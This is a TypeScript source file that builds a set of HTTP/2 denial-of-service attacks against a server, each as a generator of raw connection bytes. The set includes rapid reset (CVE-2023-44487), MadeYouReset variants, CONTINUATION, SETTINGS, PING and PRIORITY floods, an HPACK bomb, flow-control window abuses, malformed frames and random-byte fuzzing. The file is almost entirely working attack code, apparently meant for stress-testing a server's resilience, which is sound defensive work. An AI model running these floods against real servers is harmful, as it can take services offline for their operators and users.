/** Attacks on an HTTP/2 server by frames, each on connections of its own. */

import { randomBytes } from 'node:crypto'
import {
  flags,
  frame,
  headerBlock,
  headersFrame,
  indexedLiteral,
  newestEntry,
  preface,
  resetFrame,
  settings,
  settingsFrame,
  types,
  uint32,
  windowUpdate
} from './http2-frames.ts'

/** The bytes of a connection, in parts; `count` is the number of repetitions. */
export type Attack = (path: string, count: number) => Generator<Buffer>

const start = (values: Partial<Record<number, number>> = {}) => Buffer.concat([preface, settingsFrame(values)])
const streamOf = (number: number) => 2 * number + 1
const ping = frame({ type: types.ping, payload: Buffer.alloc(8) })
const block16k = Buffer.alloc(16_384, Buffer.from([0, 1, 120, 1, 121]))

/** Sends the start, and then what `part` returns for each repetition. */
const repeated = (part: (path: string, number: number) => Buffer, values?: Partial<Record<number, number>>): Attack =>
  function* (path, count) {
    yield start(values)
    for (let number = 0; number < count; number += 1) yield part(path, number)
  }

const request = (path: string, number: number) => headersFrame(streamOf(number), headerBlock(path))
const openRequest = (path: string, number: number) =>
  headersFrame(streamOf(number), headerBlock(path), flags.endHeaders)

export const attacks: Record<string, Attack> = {
  'rapid reset (CVE-2023-44487)': repeated((path, number) =>
    Buffer.concat([request(path, number), resetFrame(streamOf(number))])
  ),
  'MadeYouReset by a window update of 0 (CVE-2025-8671)': repeated((path, number) =>
    Buffer.concat([request(path, number), windowUpdate(streamOf(number), 0)])
  ),
  'MadeYouReset by a window overflow': repeated((path, number) =>
    Buffer.concat([
      openRequest(path, number),
      windowUpdate(streamOf(number), 2 ** 31 - 1),
      windowUpdate(streamOf(number), 2 ** 31 - 1)
    ])
  ),
  'MadeYouReset by a dependency on itself': repeated((path, number) =>
    Buffer.concat([
      openRequest(path, number),
      frame({
        type: types.priority,
        stream: streamOf(number),
        payload: Buffer.concat([uint32(streamOf(number)), Buffer.from([1])])
      })
    ])
  ),
  'CONTINUATION flood (CVE-2024-27983)': function* (path, count) {
    yield start()
    yield headersFrame(1, headerBlock(path), flags.endStream)
    for (let number = 0; number < count; number += 1)
      yield frame({ type: types.continuation, stream: 1, payload: block16k })
  },
  'empty CONTINUATION frames': function* (path, count) {
    yield start()
    yield headersFrame(1, headerBlock(path), flags.endStream)
    for (let number = 0; number < 10 * count; number += 1) yield frame({ type: types.continuation, stream: 1 })
  },
  'SETTINGS flood (CVE-2019-9515)': repeated(() => settingsFrame({ [settings.maxStreams]: 100 })),
  'SETTINGS that change the header table': repeated((_, number) =>
    settingsFrame({ [settings.tableSize]: number % 2 === 0 ? 0 : 2 ** 32 - 1 })
  ),
  'PING flood (CVE-2019-9512)': repeated(() => ping),
  'PRIORITY flood (CVE-2019-9513)': repeated((_, number) =>
    frame({ type: types.priority, stream: streamOf(number % 1000), payload: Buffer.from([0, 0, 0, 0, 255]) })
  ),
  'empty DATA frames (CVE-2019-9518)': function* (path, count) {
    yield start()
    yield openRequest(path, 0)
    for (let number = 0; number < 10 * count; number += 1) yield frame({ type: types.data, stream: 1 })
  },
  'responses that find no window (CVE-2019-9517)': repeated(request, { [settings.initialWindow]: 0 }),
  'one byte of window at a time (CVE-2019-9511)': function* (path, count) {
    yield start({ [settings.initialWindow]: 0 })
    yield request(path, 0)
    for (let number = 0; number < count; number += 1) yield windowUpdate(1, 1)
  },
  'an overflow of the connection window': repeated(() => windowUpdate(0, 2 ** 31 - 1)),
  'an initial window above the maximum': repeated(() => settingsFrame({ [settings.initialWindow]: 2 ** 32 - 1 })),
  'an HPACK bomb': repeated((path, number) =>
    headersFrame(
      streamOf(number),
      Buffer.concat([
        headerBlock(path),
        indexedLiteral('x', 'y'.repeat(3900)),
        ...Array.from({ length: 4000 }, () => newestEntry)
      ])
    )
  ),
  'an unknown index of the header table': repeated((_, number) =>
    headersFrame(streamOf(number), Buffer.from([0xff, 0xff, 0xff, 0xff, 0x0f]))
  ),
  'requests whose body never ends': repeated(openRequest),
  'a frame that is longer than permitted': repeated(() =>
    frame({ type: types.data, stream: 1, length: 2 ** 24 - 1, payload: Buffer.alloc(16_384) })
  ),
  'frames of unknown types': repeated((_, number) => frame({ type: 200 + (number % 50), payload: randomBytes(64) })),
  'a pushed request': repeated(() => frame({ type: types.pushPromise, stream: 1, payload: uint32(2) })),
  'GOAWAY frames': repeated(() => frame({ type: types.goaway, payload: Buffer.alloc(8) })),
  'random frames': repeated((_, number) =>
    frame({
      type: randomBytes(1)[0] ?? 0,
      flags: randomBytes(1)[0] ?? 0,
      stream: number % 7,
      payload: randomBytes(number % 100)
    })
  ),
  'random bytes after the preface': repeated(() => randomBytes(512)),
  'random bytes': function* (_, count) {
    for (let number = 0; number < count; number += 1) yield randomBytes(512)
  }
}
